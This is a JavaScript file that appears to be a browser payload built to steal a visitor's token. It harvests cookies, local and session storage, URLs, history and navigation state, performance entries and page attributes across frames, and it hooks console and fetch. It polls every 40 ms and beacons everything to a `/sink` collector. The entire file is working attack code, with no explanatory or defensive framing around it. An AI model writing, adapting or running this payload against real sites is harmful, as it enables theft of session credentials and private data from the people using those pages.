// A script that has no business with the reader's token: it looks for it wherever a page has ever been found to keep one,
// as soon as it runs, at every event that could tell and every few milliseconds, and sends all it sees to `/sink`.
(() => {
  const seen = new Set();
  const note = (where, ...texts) => {
    for (const text of texts) {
      const line = `${where}: ${text}`;
      if (text && !seen.has(line)) fresh.push(line), seen.add(line);
    }
  };
  let fresh = [];
  const attempt = (look) => {
    try {
      look();
    } catch (error) {
      note("error", error.message);
    }
  };
  const stored = (where, area) => Object.keys(area).forEach((key) => note(where, `${key} ${area.getItem(key)}`));
  // But for what comes of looking.
  const timed = (where, entries) =>
    entries.forEach((made) => made.name.includes("/sink?") || note(where, JSON.stringify(made)));
  const entry = (where, own) => own && note(where, own.url, JSON.stringify(own.getState?.() ?? null));
  const frames = (own) => Array.from({ length: own.length }, (_, at) => own[at]);

  const look = () => {
    for (const own of [window, ...frames(window), parent, top]) {
      attempt(() => note("location", own.location.href, own.document.URL, own.document.documentURI));
      attempt(() => note("document", own.document.baseURI, own.document.referrer, own.document.cookie, own.name));
      attempt(() => note("state", JSON.stringify(own.history.state)));
      attempt(() => timed("performance", own.performance.getEntries()));
      attempt(() => own.navigation.entries().forEach((made) => entry("entries", made)));
      attempt(() => entry("current", own.navigation.currentEntry));
      attempt(() => entry("activation", own.navigation.activation.entry));
      attempt(() => entry("activation.from", own.navigation.activation.from));
      attempt(() => entry("transition", own.navigation.transition?.from));
    }
    attempt(() => stored("local", localStorage));
    attempt(() => stored("session", sessionStorage));
    for (const element of document.querySelectorAll("*"))
      for (const { name, value } of element.attributes) note(name, value);
    note("text", document.querySelector(".d-notice")?.textContent);
    send();
  };

  const send = () => {
    const lines = fresh.splice(0);
    // What a beacon may hold.
    for (let piece = ""; lines.length; piece = "") {
      while (lines.length && piece.length < 20_000) piece += `${lines.shift()}\n`;
      navigator.sendBeacon(`/sink?${document.currentScript?.dataset.place ?? "later"}`, piece);
    }
  };

  attempt(() => {
    const observer = new PerformanceObserver((list) =>
      timed("observed", list.getEntries()),
    );
    for (const type of PerformanceObserver.supportedEntryTypes) observer.observe({ type, buffered: true });
  });
  const names = ["hashchange", "popstate", "storage", "pageshow", "pagehide", "beforeunload", "unload", "load", "error"];
  names.push("DOMContentLoaded", "visibilitychange", "prerenderingchange", "readystatechange", "securitypolicyviolation");
  names.push("docs:user", "mintlify:user", "docs:session", "unhandledrejection");
  const heard = (event) => {
    for (const key in event) if (typeof event[key] === "string") note(`${event.type}.${key}`, event[key]);
    attempt(() => note(event.type, JSON.stringify(event.detail ?? null), `${event.reason ?? ""}`));
    attempt(look);
  };
  for (const name of names) for (const own of [window, document]) own.addEventListener(name, heard, true);
  for (const name of ["navigate", "currententrychange", "navigatesuccess", "navigateerror"])
    window.navigation?.addEventListener(name, (event) => {
      note(name, event.destination?.url, event.from?.url, event.message, `${event.error ?? ""}`);
      look();
    });
  for (const name of ["log", "warn", "error", "info", "debug"]) {
    const own = console[name];
    console[name] = (...args) => (note(name, ...args.map(String)), own.apply(console, args));
  }
  const { fetch: own } = window;
  window.fetch = (...args) => (note("fetch", String(args[0]?.url ?? args[0])), own(...args));
  setInterval(look, 40);
  // For whoever waits until all of it has arrived.
  window.witness = () => (look(), own("/sink?last"));
  look();
})();
